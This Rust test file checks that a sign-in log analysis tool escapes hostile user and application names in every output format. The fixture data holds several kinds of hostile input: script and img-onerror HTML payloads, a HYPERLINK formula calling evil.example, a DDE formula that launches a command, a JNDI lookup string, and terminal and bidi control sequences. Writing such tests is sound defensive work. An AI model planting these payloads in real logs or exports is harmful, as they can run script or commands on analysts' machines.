//! What an attacker writes into a log, through every command and every format.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};

use crate::{Folder, HEADER};

/// User names and applications of an attacker; a null byte stands in a row of its own, which is malformed.
fn names() -> Vec<String> {
    let names = [
        "<script>alert(1)</script>",
        "</script><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\u{1b}[31mred\u{1b}]0;title\u{7}",
        "\u{202e}txt.exe\u{2066}",
        "👩\u{200d}👩\u{200d}👧 漢字 e\u{301}",
        "[link](https://evil.example) ![](x) @everyone `code` | cell",
        "${jndi:ldap://x} {{7*7}}",
    ];
    names.map(str::to_owned).into_iter().chain(["w".repeat(10_000)]).collect()
}

fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn export() -> Vec<u8> {
    let mut text = format!("{HEADER},Application,User agent,IP address,Location\n");
    for (at, name) in names().iter().enumerate() {
        for (minute, client, code) in
            [(0, "IMAP4", 0), (1, "Browser", 0), (2, "Browser", 50074), (3, "POP3", 53003)]
        {
            let status = if code == 0 { "Success" } else { "Failure" };
            text += &format!(
                "2026-11-24T{:02}:{minute:02}:00Z,6d1f8a1e-0000-4000-8000-{at:08x}{minute:04x},{1},0a000000-0000-4000-8000-{at:012x},\
                 {client},{code},{status},Single-factor authentication,{1},{1},192.0.2.{at},{1}\n",
                8 + at % 12,
                cell(name),
            );
        }
    }
    text += "2026-11-24T07:00:00Z,6d1f8a1e-0000-4000-8000-00000000ffff,a\0b,,Browser,0,Success,,,,,\n";
    text.into_bytes()
}

/// Whether a character is obeyed by something that shows text: controls and marks of direction.
fn is_obeyed(c: char) -> bool {
    c != '\n' && c.is_control()
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

#[test]
fn nothing_in_a_log_does_anything() {
    let folder = Folder::new();
    folder.write("log.csv", export());
    folder.write(
        "tenant.toml",
        "[rollout]\nstart = 2026-11-04\nenforced_at = 2026-11-23T08:00:00Z\npilot_policy = \"x\"\n",
    );
    let formula = names()[2].clone();
    let request = "6d1f8a1e-0000-4000-8000-000000000000";
    let commands: [&[&str]; 14] = [
        &["analyze"],
        &["legacy"],
        &["exceptions"],
        &["impact"],
        &["gaps"],
        &["enforcement"],
        &["validate"],
        &["break-glass", "--break-glass", &formula],
        &["plan"],
        &["report"],
        &["user", &formula],
        &["user", request],
        &["show", request],
        &["exceptions", "--exempt", &formula],
    ];
    for command in commands {
        // One of them asks for somebody who is not there: a refusal must be harmless, too.
        let is_refused = command == ["user", request];
        for format in ["table", "json", "csv", "markdown", "html", "xlsx"] {
            let told = format!("{command:?} as {format}");
            let common = ["log.csv", "--config", "tenant.toml", "--format", format, "--full"];
            let output = folder.program().args([command, &common].concat()).output().expect("it runs");
            let error = String::from_utf8(output.stderr).expect("UTF-8");
            assert!(!error.contains("panicked") && !error.chars().any(is_obeyed), "{told}: {error:.200}");
            if is_refused {
                assert_eq!(output.status.code(), Some(2), "{told}");
                continue;
            }
            assert!(matches!(output.status.code(), Some(0 | 1 | 3)), "{told}: {error:.200}");
            match format {
                "xlsx" => sheets(&told, output.stdout),
                _ => text(&told, format, &String::from_utf8(output.stdout).expect("UTF-8")),
            }
        }
    }
}

fn text(told: &str, format: &str, text: &str) {
    let bad = text.chars().find(|c| is_obeyed(*c));
    assert!(bad.is_none() || format == "csv" && bad == Some('\r'), "{told}: {bad:?}");
    match format {
        "html" => {
            let scripts = text.matches("<script").count();
            assert_eq!(
                (scripts, text.matches("</script").count()),
                (2, 2),
                "{told}: the data and the script"
            );
            assert!(!text.contains("<img") && !text.contains("href=\"h"), "{told}");
        }
        "markdown" => {
            let unescaped = text.replace("\\]", "");
            let evil = ["<script", "](http", "<img"].into_iter().find(|evil| unescaped.contains(evil));
            assert_eq!(evil, None, "{told}");
        }
        "csv" => {
            let starts = |cell: &str| cell.trim_start().starts_with(['=', '+', '@']);
            let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
            for row in reader.records() {
                assert!(row.expect("a row").iter().all(|cell| !starts(cell)), "{told}");
            }
        }
        "json" => assert!(serde_json::from_str::<serde_json::Value>(text).is_ok(), "{told}"),
        _ => {}
    }
}

/// No cell of any sheet is a formula, and none holds what is obeyed.
fn sheets(told: &str, bytes: Vec<u8>) {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).expect("formulas").is_empty(), "{told}, {name}");
        for (.., cell) in book.worksheet_range(&name).expect("a sheet").used_cells() {
            if let Data::String(text) = cell {
                assert!(!text.chars().any(is_obeyed) && text.chars().count() <= 32_767, "{told}, {name}");
            }
        }
    }
}
